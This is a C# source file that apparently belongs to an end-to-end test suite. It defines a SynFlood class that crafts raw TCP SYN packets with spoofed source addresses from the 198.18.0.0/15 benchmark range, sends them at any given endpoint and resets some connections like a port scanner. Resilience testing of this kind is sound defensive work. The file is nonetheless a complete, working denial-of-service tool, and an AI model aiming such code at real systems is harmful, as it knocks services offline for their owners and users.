using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;

namespace EndToEnd.Tests.Hostile;

/// <summary>Begins connections in the name of machines that do not exist, and never goes on with them (raw(7), RFC 9293).</summary>
internal sealed class SynFlood : IDisposable
{
    private const int IpHeader = 20;
    private const int TcpHeader = 20;
    private const byte Syn = 0x02;
    private const byte Reset = 0x04;

    // As the kernel takes the socket's option IP_HDRINCL for granted, .NET's own would only repeat it.
    private readonly Socket _socket = new(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw);
    private readonly byte[] _packet = new byte[IpHeader + TcpHeader];
    private int _sent;

    /// <summary>The network of the machines that do not exist (RFC 2544).</summary>
    public const string Network = "198.18.0.0/15";

    /// <param name="target">Whom to ask; of every four connections one is reset right after, as port scanners do.</param>
    /// <param name="count">How many to begin.</param>
    public void Send(IPEndPoint target, int count)
    {
        for (var i = 0; i < count; i++, _sent++)
        {
            var source = 0xc6120000u + ((uint)_sent % 0x1ffff);
            Build(source, target, Syn, sequence: 1000);
            _socket.SendTo(_packet, new IPEndPoint(target.Address, 0));
            if (_sent % 4 == 0)
            {
                Build(source, target, Reset, sequence: 1001);
                _socket.SendTo(_packet, new IPEndPoint(target.Address, 0));
            }
        }
    }

    public void Dispose() => _socket.Dispose();

    /// <summary>The kernel fills in the length, the identification and the sum of the IP header.</summary>
    private void Build(uint source, IPEndPoint target, byte flags, uint sequence)
    {
        Array.Clear(_packet);
        var ip = _packet.AsSpan(0, IpHeader);
        var tcp = _packet.AsSpan(IpHeader);
        ip[0] = 0x45;
        ip[8] = 64;
        ip[9] = (byte)ProtocolType.Tcp;
        BinaryPrimitives.WriteUInt32BigEndian(ip[12..], source);
        _ = target.Address.TryWriteBytes(ip[16..], out _);
        BinaryPrimitives.WriteUInt16BigEndian(tcp, (ushort)(1024 + (_sent % 60_000)));
        BinaryPrimitives.WriteUInt16BigEndian(tcp[2..], (ushort)target.Port);
        BinaryPrimitives.WriteUInt32BigEndian(tcp[4..], sequence);
        tcp[12] = TcpHeader / 4 << 4;
        tcp[13] = flags;
        BinaryPrimitives.WriteUInt16BigEndian(tcp[14..], ushort.MaxValue);
        BinaryPrimitives.WriteUInt16BigEndian(tcp[16..], Checksum(ip[12..], tcp));
    }

    /// <summary>Of the addresses, the protocol, the length and the segment.</summary>
    private static ushort Checksum(ReadOnlySpan<byte> addresses, ReadOnlySpan<byte> segment)
    {
        var sum = (uint)ProtocolType.Tcp + TcpHeader;
        for (var i = 0; i < addresses.Length; i += 2)
        {
            sum += BinaryPrimitives.ReadUInt16BigEndian(addresses[i..]);
        }

        for (var i = 0; i < segment.Length; i += 2)
        {
            sum += BinaryPrimitives.ReadUInt16BigEndian(segment[i..]);
        }

        sum = (sum & 0xffff) + (sum >> 16);
        return (ushort)~(sum + (sum >> 16));
    }
}
